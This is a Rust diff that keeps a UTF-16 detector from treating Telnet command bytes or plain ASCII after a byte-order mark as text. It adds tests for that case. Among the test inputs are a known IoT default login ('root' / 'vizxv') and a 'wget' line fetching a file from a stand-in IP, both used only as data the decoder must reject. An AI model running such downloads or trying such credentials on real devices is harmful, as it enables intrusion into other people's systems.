@@ -5,8 +5,12 @@
 
 use std::char::{REPLACEMENT_CHARACTER, decode_utf16};
 
+use crate::kind::{is_text, is_visible};
+
 /// Fewer characters may be anything.
 const MIN_CHARS: usize = 4;
+/// The code units of two or three ideographs may all look like ASCII.
+const MIN_ASCII_BYTES: usize = 8;
 /// Of so many code units, one may be more than a letter of ASCII.
 const UNITS_FOR_AN_OTHER: usize = 4;
 /// Digits of a code unit.
@@ -17,8 +21,8 @@ const DIGITS: usize = 4;
 #[must_use]
 pub(crate) fn undo(bytes: &[u8]) -> Option<Vec<u8>> {
     let (bytes, is_little) = match bytes {
-        [0xff, 0xfe, rest @ ..] => (rest, true),
-        [0xfe, 0xff, rest @ ..] => (rest, false),
+        [0xff, 0xfe, rest @ ..] if !is_telnet_or_ascii(rest) => (rest, true),
+        [0xfe, 0xff, rest @ ..] if !is_telnet_or_ascii(rest) => (rest, false),
         _ => (bytes, is_little(bytes)?),
     };
     let (pairs, _) = bytes.as_chunks::<2>();
@@ -31,8 +35,25 @@ pub(crate) fn undo(bytes: &[u8]) -> Option<Vec<u8>> {
         .map(|char| char.unwrap_or(REPLACEMENT_CHARACTER))
         .collect();
     // Compressed data may begin like a mark.
-    let bad = text.matches(REPLACEMENT_CHARACTER).count();
+    let bad = text.chars().filter(|&char| !is_usual(char)).count();
     (!text.is_empty() && bad * UNITS_FOR_AN_OTHER <= pairs.len()).then(|| text.into_bytes())
+}
+
+/// Tells whether what is behind a mark is something else: a command of Telnet that begins like one
+/// (IAC DONT, RFC 854) with a next one or with text behind it, or plain text.
+fn is_telnet_or_ascii(rest: &[u8]) -> bool {
+    match rest {
+        [_option, 0xff, 0xf0..=0xff, ..] => true,
+        [_option, behind @ ..] if behind.len() >= MIN_ASCII_BYTES => {
+            is_text(behind) && behind.is_ascii()
+        }
+        _ => false,
+    }
+}
+
+/// Tells whether a character is one of text, and of no private agreement.
+fn is_usual(char: char) -> bool {
+    is_visible(char) && !matches!(char, REPLACEMENT_CHARACTER | '\u{e000}'..='\u{f8ff}')
 }
 
 /// Tells by the NULs in which order the bytes of each code unit are; `None` where it is no text of
@@ -129,6 +150,12 @@ mod tests {
             b"\0\0\0\0\0\0\0\0\0\0",
             b"plain text of letters",
             b"\xff\xfe\x00\xd8\x00\xd8\x00\xd8",
+            // Commands of Telnet.
+            b"\xff\xfe\x01\xff\xfe\x03",
+            b"\xff\xfe\x01\xff\xfb\x1f\xff\xfa\x1f\0\x50\0\x18\xff\xf0",
+            b"\xff\xfe\x01root\r\nvizxv\r\n",
+            b"\xff\xfewget http://198.51.100.9/x",
+            b"\xff\xfe\x01\0\x02\0\x03\0\x04\0",
         ] {
             assert_eq!(undo(bytes), None, "{}", bytes.escape_ascii());
         }
